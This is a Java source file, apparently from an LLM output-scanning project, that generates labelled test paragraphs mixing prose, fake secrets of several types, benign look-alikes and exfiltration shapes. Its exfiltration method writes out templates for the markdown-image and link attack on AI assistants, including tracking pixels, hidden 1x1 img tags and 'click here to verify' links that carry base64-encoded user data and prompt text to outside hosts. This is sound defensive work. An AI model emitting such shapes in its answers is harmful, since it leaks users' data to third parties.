package com.lockllm.output;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;

/**
 * Answer-like paragraphs with labelled secrets and exfiltration shapes, and benign look-alikes, from
 * a seeded {@link Random}. Each paragraph is two to four prose sentences (an assistant explaining a
 * setup) with up to three items placed between them: a secret of one of {@link #SECRET_TYPES} in
 * one of several contexts (inline code, an env assignment, JSON, a code call, bold, plain prose), an
 * exfiltration shape, or a benign look-alike (UUIDs, hashes, base64 in prose and data-URI images,
 * documentation placeholders such as {@code sk-...} and {@code AKIAIOSFODNN7EXAMPLE}, jwt.io's example token, JWT-shaped
 * strings without an {@code alg}, plain links, commit links, query links to ordinary sites, links to
 * the allowlisted {@code docs.example}). Only secrets and exfiltration shapes are labelled.
 */
final class AnswerTextGenerator {
  static final List<String> SECRET_TYPES = SecretCheckTest.TYPES;
  static final List<String> EXFILTRATION_TYPES = List.of("EXFILTRATION_IMAGE", "EXFILTRATION_LINK");
  static final String ALLOWED_HOST = "docs.example";

  /** A labelled span. */
  record Label(String type, int start, int end) {}

  /** One paragraph and its labels. */
  record Answer(String text, List<Label> labels) {}

  private static final String[] PROSE = {
      "To configure the client, set the variables below before you start the service.",
      "This approach keeps the configuration in one place and makes rotation easier.",
      "If the request fails with a 401, check that the credentials are loaded from the environment.",
      "The following snippet shows the minimal setup that works with the default settings.",
      "You can verify the result by running the test suite again.",
      "Note that the library retries transient failures three times with exponential backoff.",
      "In production, read these values from a secret manager rather than from source code.",
      "The migration runs once at start-up and is safe to repeat.",
      "Here is a summary of what changed in the last release.",
  };
  /** Valid in structure; a documented example, so not a finding. */
  private static final String JWT_IO_EXAMPLE = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
      + "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  private static final String[] WORDS = {"alpha", "status", "report", "metrics", "session", "invoice", "profile", "render", "upload"};

  private final Random random;
  private final SecretSamples samples;

  AnswerTextGenerator(long seed) {
    this.random = new Random(seed);
    this.samples = new SecretSamples(random);
  }

  List<Answer> answers(int count) {
    List<Answer> answers = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      answers.add(answer());
    }
    return answers;
  }

  /** {@code sentences} prose sentences, without secrets, shapes or look-alikes. */
  String prose(int sentences) {
    StringBuilder text = new StringBuilder();
    for (int s = 0; s < sentences; s++) {
      text.append(PROSE[random.nextInt(PROSE.length)]).append(s % 3 == 2 ? "\n\n" : " ");
    }
    return text.toString();
  }

  private Answer answer() {
    StringBuilder text = new StringBuilder();
    List<Label> labels = new ArrayList<>();
    int sentences = 2 + random.nextInt(3);
    for (int s = 0; s < sentences; s++) {
      text.append(PROSE[random.nextInt(PROSE.length)]).append(' ');
      if (random.nextInt(3) > 0) {
        int kind = random.nextInt(10);
        if (kind < 4) {
          secret(text, labels);
        } else if (kind < 6) {
          exfiltration(text, labels);
        } else {
          text.append(benign()).append(' ');
        }
      }
    }
    return new Answer(text.toString(), labels);
  }

  private void secret(StringBuilder text, List<Label> labels) {
    String type = SECRET_TYPES.get(random.nextInt(SECRET_TYPES.size()));
    String secret = samples.of(type);
    String[][] contexts = {
        {"Use `", "` as the key."}, {"\n```\nAPI_KEY=", "\n```\n"}, {"{\"apiKey\": \"", "\"} "},
        {"client = Client(api_key=\"", "\") "}, {"Your token is **", "**. "}, {"The value is ", ". "},
    };
    String[] context = type.equals("PRIVATE_KEY") ? new String[] {"\n```\n", "\n```\n"} : contexts[random.nextInt(contexts.length)];
    text.append(context[0]);
    labels.add(new Label(type, text.length(), text.length() + secret.length()));
    text.append(secret).append(context[1]);
  }

  private void exfiltration(StringBuilder text, List<Label> labels) {
    String host = WORDS[random.nextInt(WORDS.length)] + random.nextInt(100) + (random.nextBoolean() ? ".com" : ".io");
    String data = Base64.getUrlEncoder().withoutPadding().encodeToString(
        ("user=" + samples.chars(SecretSamples.ALNUM, 12) + ";prompt=" + PROSE[random.nextInt(PROSE.length)]).getBytes(StandardCharsets.UTF_8));
    String word = WORDS[random.nextInt(WORDS.length)];
    int shape = random.nextInt(6);
    String item = switch (shape) {
      case 0 -> "![" + word + "](https://" + host + "/pixel.gif?d=" + data + ")";
      case 1 -> "![](https://" + host + "/" + data + ".png)";
      case 2 -> "[click here to verify](https://" + host + "/verify?session=" + data.substring(0, 20) + ")";
      case 3 -> "[1]: https://" + host + "/c?x=" + data;
      case 4 -> "<img src=\"https://" + host + "/t.gif?c=" + data + "\" width=\"1\" height=\"1\">";
      default -> "[the " + word + " page](https://" + host + "/#" + data + ")";
    };
    String type = shape == 0 || shape == 1 || shape == 4 ? "EXFILTRATION_IMAGE" : "EXFILTRATION_LINK";
    if (shape == 3) {
      text.append("![").append(word).append("][1]\n\n");
    }
    labels.add(new Label(type, text.length(), text.length() + item.length()));
    text.append(item).append(shape == 3 ? "\n\n" : " ");
  }

  private String benign() {
    List<Supplier<String>> lookAlikes = List.of(
        () -> "Request id " + UUID.nameUUIDFromBytes(samples.chars(SecretSamples.ALNUM, 8).getBytes(StandardCharsets.UTF_8)) + ".",
        () -> "The SHA-256 of the archive is " + samples.chars("0123456789abcdef", 64) + ".",
        () -> "Fixed in [" + samples.chars("0123456789abcdef", 7) + "](https://github.com/acme/app/commit/" + samples.chars("0123456789abcdef", 40) + ").",
        () -> "Inline chart: ![chart](data:image/png;base64," + Base64.getEncoder().encodeToString(bytes(90)) + ")",
        () -> "The encoded value is `" + Base64.getEncoder().encodeToString(bytes(36)) + "`.",
        () -> "Set `OPENAI_API_KEY=sk-...` in your shell.",
        () -> "Replace sk-your-api-key-here with your own key.",
        () -> "AWS's documentation uses AKIAIOSFODNN7EXAMPLE as the access key id.",
        () -> "A token looks like ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.",
        () -> "Connect with postgres://user:password@localhost:5432/app for local tests.",
        () -> "Use mysql://root:<password>@127.0.0.1/shop or redis://:${REDIS_PASSWORD}@cache:6379.",
        () -> "-----BEGIN PRIVATE KEY-----\n...your key...\n-----END PRIVATE KEY-----",
        () -> "A JWT starts with eyJhbGciOi... and has three parts.",
        () -> "jwt.io's example token is " + JWT_IO_EXAMPLE + ".",
        () -> "The cursor is " + samples.jwt("{\"kid\":\"" + samples.chars(SecretSamples.ALNUM, 6) + "\",\"v\":1}") + ".",
        () -> "See [the guide](https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Authorization).",
        () -> "![architecture](https://upload.example.org/img/architecture-overview-diagram.png)",
        () -> "Search [the docs](https://" + ALLOWED_HOST + "/search?q=" + WORDS[random.nextInt(WORDS.length)] + ").",
        () -> "Watch [the talk](https://www.youtube.com/watch?v=" + samples.chars(SecretSamples.URLSAFE, 11) + ").",
        () -> "Your publishable key is pk_live_" + samples.chars(SecretSamples.ALNUM, 24) + ".",
        () -> "The customer is cus_" + samples.chars(SecretSamples.ALNUM, 14) + " and the request req_" + samples.chars(SecretSamples.ALNUM, 24) + ".");
    return lookAlikes.get(random.nextInt(lookAlikes.size())).get();
  }

  private byte[] bytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }
}
